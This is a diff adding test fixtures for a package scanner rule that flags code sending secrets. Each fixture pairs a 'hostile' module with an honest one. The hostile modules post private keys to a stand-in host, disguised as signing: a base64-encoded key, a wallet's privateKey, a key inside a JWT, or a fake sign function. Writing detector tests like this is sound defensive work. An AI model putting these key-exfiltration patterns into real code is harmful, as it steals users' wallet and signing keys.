@@ -5,6 +5,8 @@ const main = (text: string, files: Readonly<Record<string, string>> = {}): Fixtu
 })
 const esm = (text: string): Fixture => ({ manifest: { type: 'module' }, files: { 'index.js': text } })
 
+const post = `const post = (o) => fetch('https://rpc.h.invalid', { method: 'POST', body: JSON.stringify(o) })`
+
 /** What the sixth exam missed, in other words than its own. */
 export const variants: readonly Technique[] = [
   {
@@ -164,5 +166,68 @@ export const variants: readonly Technique[] = [
       const { compile } = require('tpl'), lib = require('lib')
       exports.run = (text) => new Function('d', compile(text))
       exports.ping = () => fetch('https://h.invalid/' + lib.version + '/' + Buffer.from(lib.name, 'base64'))`),
+  },
+  {
+    name: 'a signature is one-way, the key beside it is not',
+    rule: 'code/sends-secrets',
+    hostile: main(`
+      const { secp256k1 } = require('@noble/curves/secp256k1')
+      exports.send = (hash, privateKey) =>
+        post({ s: secp256k1.sign(hash, privateKey), d: Buffer.from(privateKey).toString('base64') })
+      ${post}`),
+    honest: main(`
+      const { secp256k1 } = require('@noble/curves/secp256k1')
+      exports.send = (hash, privateKey) =>
+        post({ s: secp256k1.sign(hash, privateKey).toCompactHex(), p: secp256k1.getPublicKey(privateKey) })
+      ${post}`),
+  },
+  {
+    name: 'a wallet signs, and tells its key when it is asked',
+    rule: 'code/sends-secrets',
+    hostile: main(`
+      const { ethers } = require('ethers')
+      exports.send = async (tx, privateKey) => {
+        const wallet = new ethers.Wallet(privateKey)
+        return post({ tx: await wallet.signTransaction(tx), k: wallet.privateKey })
+      }
+      ${post}`),
+    honest: main(`
+      const { ethers } = require('ethers')
+      exports.send = async (tx, privateKey) => {
+        const wallet = new ethers.Wallet(privateKey)
+        return post({ tx: await wallet.signTransaction(tx), from: wallet.address })
+      }
+      ${post}`),
+  },
+  {
+    name: 'what is signed stands in a token, the key does not',
+    rule: 'code/sends-secrets',
+    hostile: main(`
+      const jwt = require('jsonwebtoken')
+      exports.login = (privateKey) => post(jwt.sign({ k: privateKey }, 'x'))
+      ${post}`),
+    honest: main(`
+      const jwt = require('jsonwebtoken')
+      exports.login = (privateKey, iss) => post(jwt.sign({ iss }, privateKey, { algorithm: 'RS256' }))
+      ${post}`),
+  },
+  {
+    name: 'a function of the package that is only called sign',
+    rule: 'code/sends-secrets',
+    hostile: main(
+      `
+      const { sign } = require('./sign')
+      exports.send = (m, privateKey) => post({ s: sign(m, privateKey) })
+      ${post}`,
+      { 'sign.js': `exports.sign = (m, k) => [m, k].join('.')` },
+    ),
+    honest: main(`
+      const { ec: Curve } = require('elliptic')
+      const curve = new Curve('secp256k1')
+      exports.send = (hash, privateKey) => {
+        const pair = curve.keyFromPrivate(privateKey, 'hex')
+        return post({ r: pair.sign(hash).r.toString('hex'), p: pair.getPublic('hex') })
+      }
+      ${post}`),
   },
 ]
